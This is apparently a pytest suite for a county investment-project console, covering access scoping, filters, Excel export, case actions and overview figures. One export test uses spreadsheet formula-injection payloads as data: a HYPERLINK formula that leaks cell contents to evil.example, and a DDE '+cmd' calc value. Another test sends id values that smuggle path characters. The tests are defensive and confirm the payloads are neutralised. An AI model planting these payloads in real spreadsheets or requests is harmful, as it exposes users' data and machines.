"""The pages over a real read model: sign-in, scoping by county and department, filters, export, actions, live."""
from __future__ import annotations

import io
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from services.console.projection.alerts import apply_case_events, apply_escalation_events
from services.console.projection.bulletins import apply_bulletins
from services.console.projection.projects import apply_project_changes
from tests.console.conftest import NOW
from tests.console.support import AT, OTHER_COUNTY, bulletin, case_changed, escalation, pid, project_changed
from tests.support.visible import visible_text

MILESTONES = [{"name": "开工", "planned": "2026-02-01", "actual": "2026-02-10"}, {"name": "竣工", "planned": "2026-12-31"},
              {"name": "施工许可", "planned": "2026-01-10", "baseline": "2025-12-01", "actual": "2026-01-20"}]


async def seed(console) -> None:  # type: ignore[no-untyped-def]
    events = [
        project_changed(1, name="城西科创产业园", stage="signed", township="转塘街道", responsible_unit="住建局", leader="陈立新",
                        milestones=MILESTONES, ledger=[{"month": "2026-02", "plan_fen": 100_000_000, "investment_fen": 80_000_000}],
                        expropriation=[{"as_of": "2026-02-20", "households_total": 80, "households_signed": 30},
                                       {"as_of": "2026-02-27", "households_total": 80, "households_signed": 52}]),
        project_changed(2, name="三墩数字港", stage="started", township="三墩镇", responsible_unit="发改局", leader="王海"),
        project_changed(3, name="留下物流中心", stage="reserve", township="留下街道", responsible_unit="住建局", leader="陈立新"),
        project_changed(9, name="义乌国际商贸城五期", county=OTHER_COUNTY, stage="signed"),
    ]
    await apply_project_changes(console.sessions, events, NOW)
    await apply_escalation_events(console.sessions, [escalation(1, "raised", 3, rule_source="《闲置土地处置办法》", rule_article="第十四条",
                                                                idle_fee_fen="100000000", idle_period_end="2026-03-01")], NOW)
    await apply_case_events(console.sessions, [case_changed(1)], NOW)
    case = {"case_id": str(case_changed(1).case_id), "escalation_id": "e", "project_id": str(pid(1)), "county_code": "330106",
            "rule_id": "R1.idle_land", "state": "opened", "ladder_level": 1, "level_name": "L1 牵头部门", "target_kind": "department",
            "target_name": "自然资源局", "due_on": "2026-03-09", "exception": None}
    console.escalation.cases[case["case_id"]] = case


async def test_pages_need_a_signed_in_person(console) -> None:
    async with console.client() as client:
        response = await client.get("/projects?stage=signed")
        assert response.status_code == 303 and response.headers["location"] == "/login?next=/projects%3Fstage%3Dsigned"
        failed = await client.post("/login", data={"login": "office", "password": "wrong"})
        assert failed.status_code == 401 and "账号或密码不正确" in failed.text


async def test_a_person_sees_only_their_county(console) -> None:
    await seed(console)
    office = await console.signed_in("office")
    page = (await office.get("/projects")).text
    assert "城西科创产业园" in page and "义乌国际商贸城五期" not in page
    assert (await office.get(f"/projects/{pid(9)}")).status_code == 404
    yiwu = await console.signed_in("yiwu")
    assert "义乌国际商贸城五期" in (await yiwu.get("/projects")).text


async def test_an_id_in_a_page_address_stays_one_path_segment_upstream(console) -> None:
    """The console passes ids from its addresses on to escalation's API: a '?' or '#' in one must not make it another
    case's address, and a control character must not break the request (fuzzing found that a 500)."""
    await seed(console)
    office = await console.signed_in("office")
    case_id = next(iter(console.escalation.cases))
    assert (await office.get(f"/cases/{case_id}")).status_code == 200
    for address in (f"/cases/{case_id}%3Fshown=1", f"/cases/{case_id}%23top", "/cases/%01x", f"/problems/{case_id}%3F", "/meetings/%1Bx"):
        answer = await office.get(address)
        assert answer.status_code == 404, (address, answer.status_code)


async def test_a_department_sees_only_what_was_routed_to_it(console) -> None:
    await seed(console)
    land = await console.signed_in("zrzy")
    page = (await land.get("/projects")).text
    assert "城西科创产业园" in page and "三墩数字港" not in page
    assert (await land.get(f"/projects/{pid(2)}")).status_code == 404
    housing = await console.signed_in("zjj")  # responsible for projects 1 and 3, but nothing was routed to it
    assert "城西科创产业园" not in (await housing.get("/projects")).text


@pytest.mark.parametrize(("query", "shown", "hidden"), [
    ("stage=signed", {"城西科创产业园"}, {"三墩数字港", "留下物流中心"}),
    ("township=三墩镇", {"三墩数字港"}, {"城西科创产业园"}),
    ("leader=陈立新", {"城西科创产业园", "留下物流中心"}, {"三墩数字港"}),
    ("responsible_unit=发改局", {"三墩数字港"}, {"留下物流中心"}),
    ("colour=red", {"城西科创产业园"}, {"三墩数字港", "留下物流中心"}),
    ("rule=R1.idle_land", {"城西科创产业园"}, {"三墩数字港"}),
    ("view=reserve", {"留下物流中心"}, {"城西科创产业园", "三墩数字港"}),
    ("view=in_progress", {"三墩数字港"}, {"留下物流中心"}),
])
async def test_the_list_filters(console, query, shown, hidden) -> None:
    await seed(console)
    page = (await (await console.signed_in("office")).get(f"/projects?{query}")).text
    assert all(name in page for name in shown) and not any(name in page for name in hidden)


async def test_stale_data_turns_a_green_project_grey(console) -> None:
    await seed(console)
    office = await console.signed_in("office")
    assert "三墩数字港" not in (await office.get("/projects?colour=grey")).text
    console.clock.set(NOW + timedelta(days=40))  # no source record for more than a month
    assert "三墩数字港" in (await office.get("/projects?colour=grey")).text


async def test_the_list_sorts_and_exports_what_it_shows(console) -> None:
    await seed(console)
    office = await console.signed_in("office")
    page = (await office.get("/projects?sort=-name")).text
    names = ["城西科创产业园", "三墩数字港", "留下物流中心"]
    assert [page.index(n) for n in sorted(names, reverse=True)] == sorted(page.index(n) for n in names)
    export = await office.get("/projects.xlsx?leader=陈立新")
    sheet = load_workbook(io.BytesIO(export.content)).active
    assert sorted(row[1] for row in sheet.iter_rows(min_row=2, values_only=True)) == ["城西科创产业园", "留下物流中心"]


async def test_the_export_keeps_money_as_numbers_that_sum(console) -> None:
    await apply_project_changes(console.sessions, [project_changed(n, stage="signed", total_investment_fen=fen)
                                                   for n, fen in ((1, 120_000_000_00), (2, 2_500_050_00))], NOW)
    export = await (await console.signed_in("office")).get("/projects.xlsx")
    sheet = load_workbook(io.BytesIO(export.content)).active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("总投资(万元)")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == [250.005, 12000] and {c.data_type for c in cells} == {"n"}
    assert {c.number_format for c in cells} == {"#,##0.00"}


async def test_the_list_export_writes_formula_looking_county_text_as_text(console) -> None:
    injected = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    await apply_project_changes(console.sessions, [project_changed(4, name=injected, stage="signed", leader="@SUM(1)",
                                                                   responsible_unit="+cmd|' /C calc'!A0")], NOW)
    export = await (await console.signed_in("office")).get("/projects.xlsx")
    sheet = load_workbook(io.BytesIO(export.content)).active
    row = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == injected)
    assert {(cell.value, cell.data_type) for cell in (row[1], row[5], row[6])} == {
        (injected, "s"), ("+cmd|' /C calc'!A0", "s"), ("@SUM(1)", "s")}


async def test_the_list_and_its_export_say_which_year_a_projects_figures_are(console) -> None:
    """On 2 March 2026 a project last heard of in December 2025 shows 2025's year to date: the list marks its year, and
    the export has the year of every row's plan and year to date."""
    await apply_project_changes(console.sessions, [
        project_changed(1, name="本年项目", ledger_month="2026-02", investment_ytd_fen=300_000_000),
        project_changed(2, name="去年项目", ledger_month="2025-12", investment_ytd_fen=1_000_000_000)], NOW)
    office = await console.signed_in("office")
    rows = re.findall(r'class="project-link">(.*?)</a>.*?<td class="num">(.*?)</td>', (await office.get("/projects")).text, re.S)
    assert dict(rows) == {"本年项目": "300.00", "去年项目": '1,000.00 <small class="muted figures-year">2025</small>'}
    sheet = load_workbook(io.BytesIO((await office.get("/projects.xlsx")).content)).active
    header = [cell.value for cell in sheet[1]]
    years = {row[header.index("项目名称")].value: row[header.index("计划与完成所属年度")].value for row in sheet.iter_rows(min_row=2)}
    assert years == {"本年项目": 2026, "去年项目": 2025}


async def test_the_project_page_shows_timeline_ledger_expropriation_escalations_and_changes(console) -> None:
    await seed(console)
    page = (await (await console.signed_in("office")).get(f"/projects/{pid(1)}")).text
    for expected in ("施工许可", "2025-12-01", "2026-02", "52/80", "《闲置土地处置办法》", "第十四条", "发改局项目库", "自然资源局"):
        assert expected in page, expected


async def test_the_project_page_lists_each_years_plan_beside_the_one_its_year_to_date_is_measured_against(console) -> None:
    plans = [{"year": 2027, "plan_fen": 240_000_000_00}, {"year": 2026, "plan_fen": 120_000_000_00}]
    await apply_project_changes(console.sessions, [project_changed(
        1, name="城东物流园", ledger_month="2026-12", investment_ytd_fen=100_000_000_00, annual_plan_fen=240_000_000_00,
        annual_plans=plans)], NOW)
    page = (await (await console.signed_in("office")).get(f"/projects/{pid(1)}")).text
    facts = dict(re.findall(r"<dt>(.*?)</dt><dd[^>]*>(.*?)</dd>", page))
    assert facts["各年度计划(万元)"] == "2026: 12,000.00；2027: 24,000.00"
    assert (facts["年度计划(万元)"], facts["年度完成(万元)"]) == ("12,000.00", "10,000.00")  # December's, against 2026's


async def test_an_action_is_done_by_escalation_under_the_persons_own_token(console) -> None:
    await seed(console)
    land = await console.signed_in("zrzy")
    queue = (await land.get("/cases")).text
    assert "城西科创产业园" in queue and "签收" in queue
    case_id = str(case_changed(1).case_id)
    done = await land.post(f"/cases/{case_id}/acknowledge", data={"note": "已收到"}, headers={"HX-Request": "true"})
    assert done.status_code == 200 and "已签收" in done.text
    reply = await land.post(f"/cases/{case_id}/reply", data={"explanation": "交地延误", "remedy_plan": "三月底前动工", "back": "/cases"})
    assert reply.status_code == 303
    assert console.escalation.actions == [("zrzy", case_id, "acknowledge", {"note": "已收到"}),
                                          ("zrzy", case_id, "reply", {"explanation": "交地延误", "remedy_plan": "三月底前动工"})]


async def test_a_readonly_person_gets_no_action_forms_and_escalation_refuses_them(console) -> None:
    await seed(console)
    guest = await console.signed_in("guest")
    assert "hx-post" not in (await guest.get("/cases")).text
    refused = await guest.post(f"/cases/{case_changed(1).case_id}/acknowledge", data={"note": ""}, headers={"HX-Request": "true"})
    assert "办理失败" in refused.text and console.escalation.actions == []


async def test_the_live_panel_shows_what_the_read_model_learnt(console) -> None:
    await seed(console)
    office = await console.signed_in("office")
    assert "项目2号raised" not in (await office.get("/live")).text
    await apply_escalation_events(console.sessions, [escalation(2, "raised", 1, at=AT + timedelta(hours=1))], NOW)
    assert "项目2号raised" in (await office.get("/live")).text
    land = await console.signed_in("zrzy")
    assert "项目2号raised" in (await land.get("/live")).text  # routed to 自然资源局 by the fake's recipients
    housing = await console.signed_in("zjj")
    assert "项目2号raised" not in (await housing.get("/live")).text


async def test_overview_rankings_idle_land_and_bulletins(console) -> None:
    await seed(console)
    await apply_bulletins(console.sessions, [bulletin("2026-02")], NOW)
    office = await console.signed_in("office")
    overview = (await office.get("/")).text
    assert "开工率" in overview and "100.0%" in overview  # project 1 planned and started within 2026
    rankings = (await office.get("/rankings")).text
    assert "转塘街道" in rankings and "52/80" in rankings
    idle = (await office.get("/idle-land")).text
    assert "P-1" in idle and "100.00万元" in idle and "征收闲置费" in idle  # the idle fee of 1,000,000.00 元
    assert "2026-02重点项目通报" in (await office.get("/bulletins")).text
    assert "330106 2026-02.html" in (await office.get("/bulletins/2026-02.html")).text


async def test_the_overview_measures_this_years_investment_only(console) -> None:
    """On 2 March 2026 a project last heard of in December 2025 (its year done, against its year's plan) counts in none
    of 2026's investment figures; mixed in, the county read 59.1% against a time curve of 14%."""
    await apply_project_changes(console.sessions, [
        project_changed(1, ledger_month="2026-02", investment_ytd_fen=300_000_000, annual_plan_fen=1_200_000_000,
                        annual_plans=[{"year": 2026, "plan_fen": 1_200_000_000}]),
        project_changed(2, ledger_month="2025-12", investment_ytd_fen=1_000_000_000, annual_plan_fen=1_000_000_000,
                        annual_plans=[{"year": 2025, "plan_fen": 1_000_000_000}])], NOW)
    overview = (await (await console.signed_in("office")).get("/")).text
    investment = re.search(r'<section class="card rate" id="investment">(.*?)</section>', overview, re.S).group(1)
    assert "2026" in investment and "25.0%" in investment and "300.00 / 1,200.00 万元" in investment


async def test_a_leader_sees_the_county_and_has_a_view_of_his_own_projects(console) -> None:
    await seed(console)
    leader = await console.signed_in("chen")
    page = (await leader.get("/projects")).text
    assert "三墩数字港" in page and 'href="/projects?leader=%E9%99%88%E7%AB%8B%E6%96%B0"' in page
    mine = (await leader.get("/projects?leader=陈立新")).text
    assert "城西科创产业园" in mine and "三墩数字港" not in mine


async def test_english_is_one_toggle_away(console) -> None:
    await seed(console)
    office = await console.signed_in("office")
    assert "Start rate" in (await office.get("/?lang=en")).text
    assert "Projects" in (await office.get("/projects")).text  # the choice sticks for the session
    assert "开工率" in (await office.get("/?lang=zh")).text


async def test_the_idle_land_page_lists_idle_parcels_only_and_survives_a_started_but_idle_finding(console) -> None:
    """R1.started_but_idle names several parcels and dates in one finding: it is not an idle parcel and must not break the page."""
    await seed(console)
    await apply_escalation_events(console.sessions, [escalation(2, "raised", 1, rule="R1.started_but_idle",
                                                                idle_since="2025-01-02,2025-07-02")], NOW)
    page = await (await console.signed_in("office")).get("/idle-land")
    shown = visible_text(page.text)  # not the markup: "P-2" turned up once inside the page's random CSRF token
    assert page.status_code == 200 and "P-1" in shown and "P-2" not in shown
